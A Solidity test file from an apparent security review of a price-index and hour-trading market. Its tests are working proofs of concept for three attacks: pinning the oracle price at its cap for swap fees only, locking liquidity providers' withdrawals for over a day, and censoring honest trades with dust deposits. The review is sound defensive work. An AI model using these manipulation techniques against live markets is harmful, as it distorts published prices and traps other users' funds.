// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {PriceSeriesFixture} from "./utils/PriceSeriesFixture.sol";
import {IHourMarket} from "../src/interfaces/IHourMarket.sol";
import {IGreenComputeIndex} from "../src/interfaces/IGreenComputeIndex.sol";
import {PriceOracle} from "../src/libraries/PriceOracle.sol";

/// @dev Third independent review of the index: the price market (`priceSlot`, `_observed`, `_observeLiquidity`,
/// `PriceMarketTooShallow`). Each test_exploit_* passes while the weakness is there and prints its measured numbers
/// (docs/HOUR_MARKET.md §6 lists them as open); test_M2_* shows the part of a finding that remains and asserts the
/// part that was fixed.
contract IndexReview2Test is PriceSeriesFixture {
    event log_named_uint(string key, uint256 val);

    /// M1. The fix made the pump non-atomic but not more expensive. Carol buys the index slot up to the cap (her buy is
    /// deep before it, so it takes the price) and *holds* the hours for the hour; in the first block of the next hour
    /// she pumps the new index slot (takeover) and then sells the previous market back: that market no longer holds
    /// the price, so the sale is unobserved. The class price is at the cap every second of the day; her cost is only
    /// the two swap fees per hour (~24 USD a day, as before the fix), the sale is at full unit value (the sold slot is
    /// exactly H ahead at the boundary), with ~320 USD of capital held (not flash-loanable). Only an arbitrageur who
    /// holds or mints hours of the pumped slot and sells into it can correct the price.
    function test_exploit_holdTheCapOneHourAtATimeForFees() public {
        _toNextHour();
        uint256 h0 = block.timestamp;
        uint256 start = token.balanceOf(carol);
        uint256 prev;
        for (uint256 h; h <= 24; ++h) {
            _next(h0 + h * 3600);
            (uint256 id,) = provide(_indexSlot(), 40);
            vm.prank(bob);
            market.buy(id, 1, type(uint256).max, bob, block.timestamp); // honest, observed
            vm.startPrank(carol);
            market.buy(id, 39, type(uint256).max, carol, block.timestamp); // the price market now: observed, cap
            if (prev != 0) market.sell(prev, 39, 0, carol, block.timestamp); // not the price market: unobserved
            vm.stopPrank();
            PriceOracle.Head memory hd = market.oracleHead(DC_CLASS);
            vm.assertEq(hd.priceSlot, uint32(id), "the pumped slot holds the price");
            vm.assertGe(hd.lastRelativePpm, 3_990_000, "at the cap");
            prev = id;
        }
        vm.warp(h0 + 25 * 3600);
        uint256 published = index.publishIndex(24 hours);
        vm.prank(carol);
        market.sell(prev, 39, 0, carol, block.timestamp); // unwinding after the window
        uint256 cost = start - token.balanceOf(carol);
        vm.assertGe(published, 39_500, "the published day index is at the cap");
        vm.assertLe(cost, 30e6, "for the swap fees only");
        emit log_named_uint("M1: published 24 h index (bps)", published);
        emit log_named_uint("M1: attacker cost for the day (usdc6)", cost);
    }

    /// L1. Locking every provider of the price market until its slot has ended, for a few USD. The index slot has 9
    /// hours provided (X = 18 virtual hours, deep at min depth 16). Carol buys 2 hours (~4.5 USD; deep before, so it takes
    /// the price): X = 16. Every withdrawal of a whole hour (R4 allows no other) would leave X below 16 and reverts
    /// PriceMarketTooShallow. In a class whose
    /// next index slots are not deep (or not traded), nothing takes over: the lock lasts to the slot's start (~24 h),
    /// then InProgress forbids withdrawals for 1 h; only after the slot can alice withdraw (cash only).
    function test_exploit_lockPriceMarketProvidersUntilTheSlot() public {
        _toNextHour();
        uint32 s = _indexSlot();
        (uint256 id, uint256 pos) = provide(s, 9);
        uint256 before = token.balanceOf(carol);
        vm.prank(carol);
        market.buy(id, 2, type(uint256).max, carol, block.timestamp);
        uint256 cost = before - token.balanceOf(carol);
        uint256 lockedAt = block.timestamp;
        vm.assertEq(market.oracleHead(DC_CLASS).priceSlot, uint32(s), "carol's buy took the price");

        uint256 shares = market.position(pos).shares;
        // every whole-hour withdrawal reverts; the smallest one (1 of 7 hours) included
        vm.prank(alice);
        vm.expectRevert();
        market.removeLiquidity(pos, shares / 7 + 1, 0, 0, alice, block.timestamp);
        vm.prank(alice);
        vm.expectRevert();
        market.removeLiquidity(pos, shares, 0, 0, alice, block.timestamp);
        // a day later, the last block before the slot: still locked (shallow index slots elsewhere took nothing over)
        _next(uint256(s) * 3600 - 1);
        (uint256 thin,) = provide(_indexSlot(), 4); // X = 8 < 16: not deep
        vm.prank(bob);
        market.buy(thin, 1, type(uint256).max, bob, block.timestamp);
        vm.assertEq(market.oracleHead(DC_CLASS).priceSlot, uint32(s), "still the price market");
        vm.prank(alice);
        vm.expectRevert();
        market.removeLiquidity(pos, shares, 0, 0, alice, block.timestamp);

        _next(uint256(s) * 3600 + 3600); // Exited
        vm.prank(alice);
        (, uint256 cashOut) = market.removeLiquidity(pos, shares, 0, 0, alice, block.timestamp);
        uint256 lockedFor = block.timestamp - lockedAt;
        vm.assertGe(lockedFor, 24 hours, "locked for over a day");
        vm.assertLe(cost, 5e6, "for under 5 USD");
        emit log_named_uint("L1: attacker cost (usdc6)", cost);
        emit log_named_uint("L1: lock duration (s)", lockedFor);
        emit log_named_uint("L1: alice's cash out after the slot (usdc6)", cashOut);
    }

    /// M2. The price market is observed inside its decay window and its price survives its slot. In a class whose index
    /// slots are not deep for a day (quiet hours), the market that took the price a day ago is still the price market
    /// when its unit value has decayed to floor/ask (0.2): carol buys its 39 hours in the last minute before the slot
    /// for ~1/5 of the dollar cost at full value (the F3 rule "a near-slot market is never observed" does not hold for
    /// the price market). After the slot starts nothing can trade it (no arbitrage at all), so the cap stays in force
    /// until some later index slot gets a deep trade: it was two more quiet days at the cap in the published 24 h index.
    /// Fixed since: once its slot has begun the class is stale and left out; the cheaper move before the slot remains.
    function test_M2_decayedPriceMarketCheaperToMoveThenStale() public {
        _toNextHour();
        uint32 s = _indexSlot();
        (uint256 id, uint256 pos) = provide(s, 40);
        vm.prank(bob);
        market.buy(id, 1, type(uint256).max, bob, block.timestamp); // honest takeover at full value
        uint256 fullValueQuote = market.quoteBuy(id, 39);

        _next(uint256(s) * 3600 - 60);
        uint256 before = token.balanceOf(carol);
        vm.prank(carol);
        market.buy(id, 39, type(uint256).max, carol, block.timestamp);
        uint256 cost = before - token.balanceOf(carol);
        vm.assertEq(market.oracleHead(DC_CLASS).priceSlot, uint32(s), "still the price market");
        vm.assertGe(market.oracleHead(DC_CLASS).lastRelativePpm, 3_990_000, "at the cap");
        vm.assertLe(cost * 4, fullValueQuote, "for under a quarter of its cost at full value");

        // after the slot: no trade can correct it, and the Exited withdrawal does not move it (SAFE part)
        _next(uint256(s) * 3600 + 3600);
        vm.prank(bob);
        vm.expectRevert();
        market.sell(id, 1, 0, bob, block.timestamp);
        uint256 shares = market.position(pos).shares;
        vm.prank(alice);
        market.removeLiquidity(pos, shares, 0, 0, alice, block.timestamp);
        vm.assertEq(market.oracleHead(DC_CLASS).lastRelativePpm >= 3_990_000, true, "an Exited withdrawal leaves it");

        // fixed part: once the price market's slot has begun, the class is stale and left out of the index (here the
        // only class with history, so there is no index), instead of carrying the pumped price for days
        vm.warp(uint256(s) * 3600 + 2 days);
        vm.expectRevert(IGreenComputeIndex.IndexEmpty.selector);
        index.publishIndex(24 hours);
        vm.warp(uint256(s) * 3600 + 3600);
        vm.expectRevert(IGreenComputeIndex.IndexEmpty.selector);
        index.indexBps(3600); // from the first window ending after the slot's start
        emit log_named_uint("M2: attacker cost in the decay (usdc6)", cost);
        emit log_named_uint("M2: same buy at full value (usdc6)", fullValueQuote);
    }

    /// M3. A takeover is censored by a dust deposit in the index slot in the same block (the liquidityBlock rule), so
    /// the price market and its price are kept against honest deep trades: carol pumps the index slot to the cap
    /// (holding the hours), then for the next hour puts a 1-cent cash deposit into the new index slot just before each
    /// honest trade there (front-running / block building); the honest trades do not take over, the cap stays in force
    /// and carol's old market, still the price market, also keeps its providers locked (L1). Cost: 1 cent (stuck to the
    /// slot, R4) plus gas per honest trade censored.
    function test_exploit_dustDepositCensorsTakeovers() public {
        _toNextHour();
        uint256 h0 = block.timestamp;
        (uint256 m1,) = provide(_indexSlot(), 40);
        vm.prank(bob);
        market.buy(m1, 1, type(uint256).max, bob, block.timestamp);
        vm.prank(carol);
        market.buy(m1, 39, type(uint256).max, carol, block.timestamp); // the cap, held
        _next(h0 + 3600);
        (uint256 m2,) = provide(_indexSlot(), 40);
        uint256 before = token.balanceOf(carol);
        for (uint256 k; k < 6; ++k) {
            _next(h0 + 3600 + 60 + k * 600);
            vm.prank(carol);
            market.addLiquidity(0, m2, 0, 10_000, 0, carol, block.timestamp); // same block, before bob
            vm.prank(bob);
            market.buy(m2, 1, type(uint256).max, bob, block.timestamp); // honest and deep: censored
            vm.assertEq(market.oracleHead(DC_CLASS).priceSlot, uint32(m1), "no takeover");
        }
        uint256 cost = before - token.balanceOf(carol);
        vm.warp(h0 + 2 * 3600);
        uint256 hourIndex = index.indexBps(3600);
        vm.assertGe(hourIndex, 39_500, "the honest hour is published at the cap");
        vm.assertLe(cost, 100_000, "for 6 cents");
        emit log_named_uint("M3: 1 h index with 6 honest deep trades censored (bps)", hourIndex);
        emit log_named_uint("M3: censoring cost (usdc6)", cost);
    }
}
